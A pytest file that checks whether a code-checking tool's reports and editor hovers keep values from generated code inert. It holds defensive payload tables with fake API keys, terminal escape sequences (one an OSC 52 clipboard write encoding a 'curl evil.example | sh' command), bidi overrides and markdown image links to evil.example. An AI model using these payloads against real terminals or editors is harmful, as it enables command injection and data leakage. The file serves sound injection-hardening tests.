"""What comes back from generated code is data (issue 28, section 4): in every rendering (text,
JSON and SARIF reports, the editor's diagnostic, code lens, hover and command results) a value
can neither drive a terminal, nor forge a line, nor reorder text, nor become markup in the hover,
and nothing that looks like a credential is shown.

``ATTACKS`` is the table ``benchmarks/boundary_tally.py`` counts; ``violations`` says what got
through.  The first tests put each payload in every field of a result that generated code can
fill; the last one runs hostile alternatives through the real sandbox and ``Checker`` (replayed
samples), so the payloads arrive as reprs, type names and exception names from the worker."""

from __future__ import annotations

import json
import re

import pytest
from markdown_it import MarkdownIt

from coherence import formats
from coherence.engine.check import Checker
from coherence.engine.config import CheckConfig
from coherence.engine.markers import find_targets
from coherence.engine.redact import display
from coherence.engine.result import CheckResult, Cluster, ClusterOutput, Counterexample
from coherence.lsp import render
from coherence.lsp.state import result_json
from tests.support.sarif import valid_sarif

# Fake credentials in the formats ``engine/redact.py`` knows (none of them is real).
SECRETS = {
    "openai key": "sk-proj-T3BlbkFJq8Zr2xW9vYc4Nd7Hs1Lk0Pm",
    "anthropic key": "sk-ant-api03-q8Zr2xW9vYc4Nd7Hs1Lk0PmT3BlbkFJ-AA",
    "aws access key id": "AKIAQ7ZR2XW9VYC4ND7H",
    "github token": "ghp_q8Zr2xW9vYc4Nd7Hs1Lk0PmT3BlbkFJa8Zr2x",
    "github fine-grained token": "github_pat_11AQ7ZR2X0q8Zr2xW9vYc4_Nd7Hs1Lk0PmT3BlbkFJ",
    "slack token": "xoxb-2048-4096-q8Zr2xW9vYc4Nd7H",
    "google api key": "AIzaSyq8Zr2xW9vYc4Nd7Hs1Lk0PmT3BlbkFJa",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJxOFpyMnhXOSJ9.q8Zr2xW9vYc4Nd7Hs1Lk0PmT3BlbkFJ",
    "private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
    "password in a url": "https://deploy:q8Zr2xW9vYc4@git.example.com/repo.git",
    "bearer header": "Authorization: Bearer q8Zr2xW9vYc4Nd7Hs1Lk0Pm",
    ".env line": "DATABASE_PASSWORD=q8Zr2xW9vYc4Nd7H",
}
# The part of each that must not be shown
_HIDDEN = {
    "private key": "b3BlbnNzaC1rZXktdjEAAAAA",
    "password in a url": "q8Zr2xW9vYc4",
    "bearer header": "q8Zr2xW9vYc4Nd7Hs1Lk0Pm",
    ".env line": "q8Zr2xW9vYc4Nd7H",
}
CONTROLS = {
    "osc 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "line erase and a forged summary": "\r\x1b[2K\n\n1 function(s): 1 coherent\n",
    "c1 control sequence": "\x9b2K\x9d0;title\x9c",
    "bidi override": "safe\u202eevil\u202c",
    "bidi isolates and marks": "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c",
    "zero-width characters": "a\u200bb\u2060c\ufeffd",
    "line and paragraph separators": "a\x85b\u2028c\u2029d",
    "delete and nul": "a\x7fb\x00c",
    "lone surrogate": "a\ud800b",
}
MARKUP = {
    "backticks close the hover's code": "``![x](https://evil.example/p.png?k=1)``",
    "html image": '<img src="https://evil.example/p.png">',
    "markdown link": "[update](https://evil.example/)",
    "code fence": "```\n![x](https://evil.example/q.png)\n```",
}
ATTACKS = {
    **{f"secret: {k}": v for k, v in SECRETS.items()},
    **{f"control: {k}": v for k, v in CONTROLS.items()},
    **{f"markup: {k}": v for k, v in MARKUP.items()},
}
_MD = MarkdownIt("commonmark")


def hostile_result(payload: str) -> CheckResult:
    """A result with ``payload`` in every field that generated code, or a workspace, can fill."""
    ce = Counterexample(
        call=f"f({payload!r})",
        yours="1",
        theirs=payload,
        alternatives=[ClusterOutput(payload, 5), ClusterOutput(f"raises {payload}", 2)],
        disagreeing=7,
        total=9,
    )
    return CheckResult(
        name="f",
        qualname="f",
        path="target.py",
        line=3,
        status="incoherent",
        samples=10,
        inputs=100,
        incoherence=0.3,
        incoherence_interval=[0.2, 0.4],
        disagreement=0.7,
        error_lower_bound=0.15,
        dsde=0.6,
        sde=0.2,
        trust=0.4,
        clusters=[
            Cluster(
                5, models={payload: 5}, representative_source=f"def f(x):\n    return {payload!r}\n", output=payload
            ),
            Cluster(2),
            Cluster(1, yours=True),
            Cluster(1),
            Cluster(1),
        ],
        user_cluster=2,
        counterexample=ce,
        model="replay:x.jsonl",
        sampling=f"9 of 9 alternatives; {payload}",
        disagreeing_code=f"def f(x):\n    return {payload!r}  # {payload}\n",
        extra={"outside_domain": payload},
    )


def renderings(results: list[CheckResult]) -> dict[str, str]:
    r = results[0]
    sarif = formats.to_sarif(results)
    valid_sarif(sarif)  # a hostile value still leaves a valid SARIF 2.1.0 document
    return {
        "text": formats.to_text(results),
        "json": formats.to_json(results),
        "sarif": sarif,
        "diagnostic": render.diagnostic_message(r),
        "lens": render.lens_title(r, checking=False),
        "hover": render.hover_markdown(r),
        "command result": json.dumps(result_json(r)),
        "skipped text": formats.to_text(
            [
                CheckResult(
                    name="f",
                    path="t.py",
                    line=1,
                    status="error",
                    reason=str(r.counterexample.theirs if r.counterexample else ""),
                )
            ]
        ),
        "skipped hover": render.hover_markdown(
            CheckResult(
                name="f",
                path="t.py",
                line=1,
                status="error",
                reason=str(r.counterexample.theirs if r.counterexample else ""),
            )
        ),
    }


def violations(name: str, shown: dict[str, str], secret: str | None = None) -> list[str]:
    """What of attack ``name`` got through in the renderings ``shown``."""
    out = []
    for where, text in shown.items():
        if where in ("json", "sarif", "command result"):
            try:
                decoded = json.dumps(json.loads(text), ensure_ascii=False)
            except ValueError as exc:
                out.append(f"{where}: not JSON: {exc}")
                continue
            if not text.isascii():
                out.append(f"{where}: not escaped")
        else:
            decoded = text
            bad = sorted({ch for ch in text if not ch.isprintable() and ch != "\n"})
            if bad:
                out.append(f"{where}: raw {bad}")
        if where == "text" and len(re.findall(r"(?m)^\d+ function\(s\):", text)) != 1:
            out.append("text: a forged summary line")
        if where in ("hover", "skipped hover"):
            html = _MD.render(text)
            for tag in ("<img", "<a ", "<script", "<iframe"):
                if tag in html:
                    out.append(f"{where}: renders {tag}>")
        if secret is not None and secret in decoded:
            out.append(f"{where}: shows the secret")
    return out


def secret_of(name: str) -> str | None:
    key = name.split(": ", 1)[1]
    return _HIDDEN.get(key, SECRETS[key]) if name.startswith("secret: ") else None


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_hostile_value_is_data_in_every_rendering(name):
    assert violations(name, renderings([hostile_result(ATTACKS[name])]), secret_of(name)) == []


@pytest.mark.parametrize(
    "text",
    [
        "risk-management-framework-2024",
        "https://example.com/a?b=1",
        "{'tokens': ['hello', 'world']}",
        "password_strength('abcdefgh')",
        "Task-0123456789abcdefghij",
        "user@example.com",
        "[1, 2, 'sk']",
        "café ünïcode 日本語 ✓",
        "a\\nb",
    ],
)
def test_honest_text_is_not_redacted_or_escaped(text):
    assert display(text) == text


def test_honest_values_are_shown_as_they_are():
    r = hostile_result("[1, 2, 'ok']")
    shown = renderings([r])
    assert "[1, 2, 'ok']" in shown["text"] and "[1, 2, 'ok']" in shown["diagnostic"]
    assert "`[1, 2, 'ok']`" in shown["hover"]
    assert json.loads(shown["json"])["functions"][0]["counterexample"]["theirs"] == "[1, 2, 'ok']"


SOURCE = '''
# coherence
def f(x: int) -> int:
    """Return three times x plus one."""
    return 3 * x + 1
'''
FAKE_KEY = SECRETS["openai key"]
# Alternatives that send the payloads back the ways a program can: a return value (its repr), a
# type name and repr of an object, an exception's type name, an error that carries a key.
HOSTILE_ALTERNATIVES = [
    "def f(x):\n    return '\\x1b]52;c;ZXZpbA==\\x07\\r\\x1b[2K\\n\\n1 function(s): 1 coherent\\n' + %r\n" % FAKE_KEY,
    "def f(x):\n    class T:\n        def __repr__(self):\n            return '\\u202e\\x1b[31m' + %r\n"
    "    T.__name__ = T.__qualname__ = '\\x1b]52;c;QQ==\\x07\\n1 function(s): 1 coherent'\n    return T()\n" % FAKE_KEY,
    "def f(x):\n    raise type('E\\x1b[2K\\u202e\\n1 function(s): 1 coherent``![i](https://evil.example/i.png)', (Exception,), {})()\n",
    "def f(x):\n    return {'token': %r, 'img': '``![i](https://evil.example/i.png)``'}\n" % FAKE_KEY,
]


async def test_hostile_alternatives_through_the_sandbox_and_the_checker(tmp_path):
    honest = "def f(x):\n    return 3 * x + 1\n"
    replay = tmp_path / "samples.jsonl"
    replay.write_text(json.dumps({"entry_point": "f", "candidates": [honest, honest] + HOSTILE_ALTERNATIVES}) + "\n")
    module = tmp_path / "target.py"
    module.write_text(SOURCE)
    (target,) = find_targets(SOURCE, str(module))
    config = CheckConfig(replay=str(replay), samples=3 + len(HOSTILE_ALTERNATIVES), inputs=30, workspace=str(tmp_path))
    result = await Checker(config).check(target)
    assert result.status == "incoherent", result.reason
    shown = renderings([result])
    raw = json.dumps(result.to_dict())
    assert FAKE_KEY in raw or "\\u001b" in raw  # the payloads did arrive (the check itself keeps data as it is)
    assert violations("pipeline", shown, FAKE_KEY) == []
